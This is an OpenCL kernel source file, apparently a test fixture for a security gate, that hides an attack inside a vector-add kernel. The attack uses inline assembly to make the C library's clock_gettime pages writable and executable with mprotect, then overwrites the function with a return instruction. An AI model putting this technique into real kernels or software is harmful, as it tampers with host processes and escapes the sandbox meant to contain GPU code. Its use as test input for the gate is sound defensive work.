// SPDX-License-Identifier: Apache-2.0
// Hostile kernel for the kit's tests: rewrites the C library's clock.
// outcome: forbidden
// outcome without gate: runtime-crash

#define GROUP 256
#define PER_ITEM 4

// Not in the kernel itself, where PoCL 4 to 6 replace inline assembly with other code.
__attribute__((noinline)) void attack(void) {
#ifdef __aarch64__
  __asm__ volatile(
      "adrp x9, :got:clock_gettime\n ldr x9, [x9, :got_lo12:clock_gettime]\n and x0, x9, #-4096\n"
      " mov x1, #8192\n mov x2, #7\n mov x8, #226\n svc #0\n mov w10, #0x03c0\n movk w10, "
      "#0xd65f, lsl #16\n str w10, [x9]\n" ::
          : "x0", "x1", "x2", "x8", "x9", "x10", "memory");
#else
  __asm__ volatile(
      "mov clock_gettime@GOTPCREL(%%rip), %%rbx\n mov %%rbx, %%rdi; and $-4096, %%rdi\n"
      " mov $8192, %%esi; mov $7, %%edx; mov $10, %%eax; syscall\n movb $0xc3, (%%rbx)\n" ::
          : "rax", "rbx", "rcx", "rdx", "rdi", "rsi", "r11", "memory");
#endif
}

kernel void vector_add(global const float* a, global const float* b, global float* c, uint n) {
  for (size_t i = get_global_id(0); i < n; i += get_global_size(0)) c[i] = a[i] + b[i];
  if (get_global_id(0) == 0) attack();
}
